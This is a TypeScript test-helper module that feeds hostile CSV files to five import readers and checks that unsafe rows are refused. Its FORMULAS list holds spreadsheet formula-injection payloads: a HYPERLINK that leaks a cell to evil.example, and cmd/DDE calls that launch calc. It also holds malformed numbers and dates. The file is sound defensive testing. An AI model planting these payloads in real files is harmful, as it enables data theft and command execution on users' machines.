// The import readers fed hostile files (tests/unit/hostile-csv.test.ts), and how those files are built.
import { CONTROL } from "@/lib/schemas/text";
import {
  MAX_OBSERVATION_ROWS,
  OBSERVATION_COLUMNS,
  readObservationCsv,
  type ObservationCsvRow,
} from "@/lib/domain/observation-csv";
import { MAX_READING_ROWS, READING_COLUMNS, readReadingCsv, type ReadingCsvRow } from "@/lib/domain/metric-csv";
import { MAX_SURVEY_ROWS, readSurveyCsv, type SurveyCsvRow } from "@/lib/domain/survey-csv";
import { CSV_COLUMNS, MAX_IMPORT_ROWS, readCatalogueFile, type ImportRow } from "@/lib/domain/catalogue-transfer";
import type { SurveyShape } from "@/lib/domain/surveys";
import {
  FEEDBACK_COLUMNS,
  MAX_FEEDBACK_ROWS,
  parseSentiment,
  parseSource,
  readFeedbackCsv,
  type FeedbackCsvRow,
} from "@/lib/domain/feedback";
import { HOSTILE_STRINGS, type Hostile } from "./hostile-corpus";

/** The day the readers are told it is: dates after it are in the future. */
export const TODAY = "2026-01-15";
export const TOMORROW = "2026-01-16";

// ---------------------------------------------------------------- the readers under test

/** How a column is checked: what the reader must refuse, and what it may keep as data. */
export type Column =
  | { kind: "date" } // a real date, not after today
  | { kind: "count" } // observation counts: whole numbers 0…9999
  | { kind: "number" } // reading values: finite, |v| ≤ 1e12
  | { kind: "stored"; max: number; required: boolean; field: string } // text written to the database as typed
  | { kind: "lookup"; required: boolean; field: string } // a name matched to a record by the data layer (never stored)
  | { kind: "email"; max: number } // catalogue owner: matched to a member
  | { kind: "lines"; each: number } // catalogue anchors, one per line
  | { kind: "group" } // survey: doer, non-doer, excluded or empty
  | { kind: "answer"; screening: boolean } // survey: must be one of the question's responses
  | { kind: "choice"; accepts: (t: string) => boolean } // one of a few words (feedback source, sentiment)
  | { kind: "ignored" }; // read by no rule (the catalogue's status: imports are drafts)

export interface Result<R> {
  rows: R[];
  fileError?: string;
}

export interface Reader<R> {
  name: string;
  columns: readonly string[];
  valid: readonly string[];
  kinds: Record<string, Column>;
  maxRows: number;
  read: (text: string) => Result<R>;
  errors: (row: R) => string[];
  /** Why a row that passes is not safe to write (empty when it is). */
  unsafe: (row: R) => string[];
  /** The value a passing row keeps for a text column. */
  field: (row: R, field: string) => unknown;
  /** A valid row whose unique column is made unique by n (for files with many rows). */
  nth: (n: number) => string[];
}

export const isRealDate = (s: string) => {
  if (!/^\d{4}-\d{2}-\d{2}$/.test(s)) return false;
  const d = new Date(`${s}T00:00:00Z`);
  return !Number.isNaN(d.getTime()) && d.toISOString().slice(0, 10) === s;
};
export const controls = (values: Record<string, unknown>): string[] =>
  Object.entries(values).flatMap(([k, v]) =>
    typeof v === "string" && CONTROL.test(v)
      ? [`${k} keeps a control character: ${JSON.stringify(v.slice(0, 40))}`]
      : [],
  );
export const dateProblems = (date: string) =>
  !isRealDate(date)
    ? [`date ${JSON.stringify(date.slice(0, 20))} is not a real date`]
    : date > TODAY
      ? [`date ${date} is in the future`]
      : [];

export const observations: Reader<ObservationCsvRow> = {
  name: "readObservationCsv",
  columns: OBSERVATION_COLUMNS,
  valid: ["2026-01-14", "Platform", "Post the root cause", "4", "1", "Sprint review"],
  kinds: {
    date: { kind: "date" },
    team: { kind: "lookup", required: true, field: "team" },
    behaviour: { kind: "lookup", required: true, field: "behaviour" },
    performed: { kind: "count" },
    missed: { kind: "count" },
    note: { kind: "stored", max: 500, required: false, field: "note" },
  },
  maxRows: MAX_OBSERVATION_ROWS,
  read: (text) => readObservationCsv(text, TODAY),
  errors: (r) => r.errors,
  unsafe: (r) => [
    ...controls({ date: r.date, team: r.team, behaviour: r.behaviour, note: r.note }),
    ...dateProblems(r.date),
    ...[r.performed, r.missed].flatMap((n) =>
      Number.isInteger(n) && n >= 0 && n <= 9999 ? [] : [`count ${n} is not a whole number from 0 to 9999`],
    ),
    ...(r.performed + r.missed > 0 ? [] : ["no opportunity"]),
    ...(r.team && r.behaviour ? [] : ["team or behaviour missing"]),
    ...(r.note.length <= 500 ? [] : ["note longer than 500"]),
  ],
  field: (r, f) => r[f as keyof ObservationCsvRow],
  nth: (n) => ["2026-01-14", "Platform", "Post the root cause", "4", "1", `row ${n}`],
};

export const readings: Reader<ReadingCsvRow> = {
  name: "readReadingCsv",
  columns: READING_COLUMNS,
  valid: ["2026-01-14", "Incidents with a root cause", "Platform", "42.5"],
  kinds: {
    date: { kind: "date" },
    metric: { kind: "lookup", required: true, field: "metric" },
    team: { kind: "lookup", required: false, field: "team" },
    value: { kind: "number" },
  },
  maxRows: MAX_READING_ROWS,
  read: (text) => readReadingCsv(text, TODAY),
  errors: (r) => r.errors,
  unsafe: (r) => [
    ...controls({ date: r.date, metric: r.metric, team: r.team }),
    ...dateProblems(r.date),
    ...(typeof r.value === "number" && Number.isFinite(r.value) && Math.abs(r.value) <= 1e12
      ? []
      : [`value ${r.value} is not a finite number within ±1e12`]),
    ...(r.metric ? [] : ["metric missing"]),
  ],
  field: (r, f) => r[f as keyof ReadingCsvRow],
  nth: (n) => [
    `2026-01-${String((n % 14) + 1).padStart(2, "0")}`,
    `Metric ${Math.floor(n / 14)}`,
    "Platform",
    String(n),
  ],
};

export const SCREEN = "Did you post the root cause every time?";
export const TOOLS = "Is it difficult to get the tools you need?";
export const SHAPE: SurveyShape = {
  questions: [
    {
      id: "s",
      text: SCREEN,
      kind: "SCREENING",
      determinant: null,
      multiple: false,
      options: [
        { id: "s-yes", label: "Yes", classifies: "DOER" },
        { id: "s-no", label: "No", classifies: "NON_DOER" },
        { id: "s-never", label: "Never due", classifies: "EXCLUDED" },
      ],
    },
    {
      id: "t",
      text: TOOLS,
      kind: "DETERMINANT",
      determinant: "ACCESS",
      multiple: true,
      options: [
        { id: "t-yes", label: "Yes", classifies: null },
        { id: "t-no", label: "No", classifies: null },
      ],
    },
  ],
};
export const OPTION_IDS = new Set(SHAPE.questions.flatMap((q) => q.options.map((o) => o.id)));

export const surveys: Reader<SurveyCsvRow> = {
  name: "readSurveyCsv",
  columns: ["respondent", "group", SCREEN, TOOLS],
  valid: ["r1", "", "Yes", "No"],
  kinds: {
    respondent: { kind: "stored", max: 80, required: true, field: "respondent" },
    group: { kind: "group" },
    [SCREEN]: { kind: "answer", screening: true },
    [TOOLS]: { kind: "answer", screening: false },
  },
  maxRows: MAX_SURVEY_ROWS,
  read: (text) => readSurveyCsv(text, SHAPE),
  errors: (r) => r.errors,
  unsafe: (r) => [
    ...controls({ respondent: r.respondent }),
    ...(r.respondent && r.respondent.length <= 80 ? [] : ["respondent missing or longer than 80"]),
    ...(r.group === "DOER" || r.group === "NON_DOER" || r.group === "EXCLUDED" ? [] : [`group ${String(r.group)}`]),
    ...r.optionIds.filter((o) => !OPTION_IDS.has(o)).map((o) => `unknown option ${o}`),
  ],
  field: (r, f) => r[f as keyof SurveyCsvRow],
  nth: (n) => [`r${n}`, "", "Yes", "No"],
};

export const CATALOGUE_LIMITS: Record<string, number> = {
  value: 80,
  title: 120,
  actor: 120,
  action: 300,
  trigger: 200,
  frequency: 120,
  completionCriterion: 300,
  customerOutcome: 300,
  example: 500,
  ownerEmail: 254,
};
export const camel = (c: string) => c.replace(/_(\w)/g, (_, x: string) => x.toUpperCase());
export const catalogueUnsafe = (r: ImportRow): string[] => {
  const b = r.behaviour;
  if (!b) return ["passed without a behaviour"];
  const problems = controls({ ...b, anchors: "" });
  for (const [k, max] of Object.entries(CATALOGUE_LIMITS))
    if (String((b as Record<string, unknown>)[k]).length > max) problems.push(`${k} longer than ${max}`);
  if (b.anchors.length > 6) problems.push("more than 6 anchors");
  b.anchors.forEach((a, i) => {
    if (a.length > 200 || !a.trim()) problems.push(`anchor ${i} empty or longer than 200`);
    if (CONTROL.test(a)) problems.push(`anchor ${i} keeps a control character: ${JSON.stringify(a.slice(0, 40))}`);
  });
  return problems;
};

export const catalogue: Reader<ImportRow> = {
  name: "readCatalogueFile (CSV)",
  columns: CSV_COLUMNS,
  valid: [
    "Ownership",
    "Post the root cause",
    "The engineer on call",
    "posts the root cause on the ticket",
    "when an incident is closed",
    "every incident",
    "a root-cause note is on the ticket",
    "customers hear what went wrong",
    "Ticket 24: the cache expired early.",
    "Is the cause named?\nIs it on the ticket?",
    "grace@example.com",
    "ACTIVE",
  ],
  kinds: {
    ...Object.fromEntries(
      [
        "value",
        "title",
        "actor",
        "action",
        "trigger",
        "frequency",
        "completion_criterion",
        "customer_outcome",
        "example",
      ].map((c) => [
        c,
        { kind: "stored", max: CATALOGUE_LIMITS[camel(c)]!, required: c !== "example", field: camel(c) } as Column,
      ]),
    ),
    anchors: { kind: "lines", each: 200 },
    owner_email: { kind: "email", max: 254 },
    status: { kind: "ignored" },
  },
  maxRows: MAX_IMPORT_ROWS,
  read: (text) => readCatalogueFile(text),
  errors: (r) => r.errors,
  unsafe: catalogueUnsafe,
  field: (r, f) => (r.behaviour as Record<string, unknown> | null)?.[f],
  nth: (n) => catalogue.valid.map((v, i) => (i === 1 ? `Behaviour number ${n}` : v)),
};

export const feedback: Reader<FeedbackCsvRow> = {
  name: "readFeedbackCsv",
  columns: FEEDBACK_COLUMNS,
  valid: ["The export timed out again.", "support ticket", "2026-01-14", "Acme", "negative", "", "", "", "Platform"],
  kinds: {
    quote: { kind: "stored", max: 4000, required: true, field: "quote" },
    source: { kind: "choice", accepts: (t) => parseSource(t) !== null },
    date: { kind: "date" },
    customer: { kind: "stored", max: 200, required: false, field: "customer" },
    sentiment: { kind: "choice", accepts: (t) => parseSentiment(t) !== null },
    behaviour: { kind: "lookup", required: false, field: "behaviour" },
    barrier: { kind: "lookup", required: false, field: "barrier" },
    metric: { kind: "lookup", required: false, field: "metric" },
    team: { kind: "lookup", required: false, field: "team" },
  },
  maxRows: MAX_FEEDBACK_ROWS,
  read: (text) => readFeedbackCsv(text, TODAY),
  errors: (r) => r.errors,
  unsafe: (r) => [
    ...controls({
      quote: r.quote,
      customer: r.customer,
      behaviour: r.behaviour,
      barrier: r.barrier,
      metric: r.metric,
      team: r.team,
    }),
    ...dateProblems(r.date),
    ...(r.quote && r.quote.length <= 4000 ? [] : ["quote missing or longer than 4000"]),
    ...(r.customer.length <= 200 ? [] : ["customer longer than 200"]),
    ...(r.source && r.sentiment ? [] : ["no source or sentiment"]),
  ],
  field: (r, f) => r[f as keyof FeedbackCsvRow],
  nth: (n) => [`Customer number ${n} said the export timed out`, "survey", "2026-01-14", "", "mixed", "", "", "", ""],
};

export const READERS = [observations, readings, surveys, catalogue, feedback] as unknown as Reader<unknown>[];

// ---------------------------------------------------------------- building files

export const cell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
export const line = (cells: readonly string[]) => cells.map(cell).join(",");
export const fileOf = (r: Reader<unknown>, rows: readonly (readonly string[])[], eol = "\n") =>
  [line(r.columns), ...rows.map(line)].join(eol) + eol;
export const withCell = (r: Reader<unknown>, column: string, value: string) =>
  r.valid.map((v, i) => (r.columns[i] === column ? value : v));

/** Deterministic noise: letters, separators, quotes, line breaks, NUL, bidi overrides, emoji, formula starts. */
export function garbage(length: number, quotes: boolean, seed = 7): string {
  const pool = [
    "a",
    "b",
    "Z",
    "9",
    "0",
    ",",
    ",",
    "\n",
    "\r\n",
    "\r",
    " ",
    ";",
    "\u0000",
    "\u202E",
    "=",
    "+",
    "-",
    "@",
    "'",
    "<",
    ">",
    "👩‍💻",
    "\t",
    ...(quotes ? ['"', '""'] : []),
  ];
  let x = seed;
  let out = "";
  while (out.length < length) {
    x = (x * 1_103_515_245 + 12_345) % 2_147_483_648;
    out += pool[x % pool.length];
  }
  return out;
}

export const FORMULAS: readonly Hostile[] = [
  { name: "=HYPERLINK formula", value: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' },
  { name: "+cmd formula", value: "+cmd|' /C calc'!A0" },
  { name: "@SUM formula", value: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: "-formula", value: "-2+3+cmd|' /C calc'!A0" },
  { name: "escaped formula (as exported)", value: "'=1+1" },
  { name: "a leading apostrophe that is the value", value: "'-- none --" },
  { name: "a leading apostrophe before @", value: "'@channel" },
  { name: "tab-led formula", value: "\t=1+1" },
  { name: "DDE", value: '=DDE("cmd";"/C calc";"!A0")' },
];
export const NUMBER_CELLS: readonly Hostile[] = [
  { name: "number as word", value: "five" },
  { name: "negative count", value: "-1" },
  { name: "huge count", value: "99999" },
  { name: "1e308", value: "1e308" },
  { name: "400 nines", value: "9".repeat(400) },
  { name: "past a 32-bit column", value: "2147483648" },
  { name: "1e13", value: "1e13" },
  { name: "Infinity", value: "Infinity" },
  { name: "-Infinity", value: "-Infinity" },
  { name: "NaN", value: "NaN" },
  { name: "hex", value: "0x10" },
  { name: "decimal comma", value: "1,5" },
  { name: "thousands separators", value: "1,000,000" },
  { name: "decimal", value: "1.5" },
  { name: "exponent", value: "1e3" },
  { name: "leading plus", value: "+7" },
  { name: "leading dot", value: ".5" },
  { name: "negative zero", value: "-0" },
  { name: "padded", value: " 5 " },
  { name: "Arabic-Indic digits", value: "١٢" },
  { name: "full-width digits", value: "１２" },
  { name: "percentage", value: "12%" },
  { name: "currency", value: "€12" },
];
export const DATE_CELLS: readonly Hostile[] = [
  { name: "tomorrow (date)", value: TOMORROW },
  { name: "far future", value: "2999-01-01" },
  { name: "9999-12-31", value: "9999-12-31" },
  { name: "30 February", value: "2026-02-30" },
  { name: "29 February in a common year", value: "2025-02-29" },
  { name: "29 February in a leap year (valid)", value: "2024-02-29" },
  { name: "month 13", value: "2026-13-01" },
  { name: "day 32", value: "2026-01-32" },
  { name: "all-zero date", value: "0000-00-00" },
  { name: "the word tomorrow", value: "tomorrow" },
  { name: "unpadded", value: "2026-1-5" },
  { name: "day/month/year", value: "14/01/2026" },
  { name: "month/day/year", value: "01/14/2026" },
  { name: "date-time", value: "2026-01-14T10:00:00Z" },
  { name: "Excel serial", value: "46036" },
  { name: "today (valid)", value: TODAY },
];

/** Every cell value tried in every column of every reader. */
export const CELLS: readonly Hostile[] = [...HOSTILE_STRINGS, ...FORMULAS, ...NUMBER_CELLS, ...DATE_CELLS];
